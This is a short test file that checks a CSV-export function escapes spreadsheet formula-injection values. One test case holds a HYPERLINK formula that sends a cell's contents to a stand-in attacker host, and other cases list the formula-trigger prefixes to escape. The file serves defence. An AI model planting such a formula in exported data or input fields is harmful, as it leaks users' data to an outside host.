import { describe, expect, it } from "vitest";
import { spreadsheetSafe } from "./csv.ts";

describe("spreadsheetSafe", () => {
  it("escapes the sign-in name of issue 10 (M2) so that no spreadsheet runs it", () => {
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    expect(spreadsheetSafe(payload)).toBe(`'${payload}`);
  });

  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＋1", "－1", "＠x"])("escapes %j", (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
  });

  it.each([
    "",
    "admin",
    "user:li",
    "2026-11-20T02:00:00.000Z",
    '{"from":"127.0.0.1"}',
    "退货运费 = 卖家",
    " =1",
    "1-2",
  ])("keeps %j as it is", (cell) => {
    expect(spreadsheetSafe(cell)).toBe(cell);
  });
});
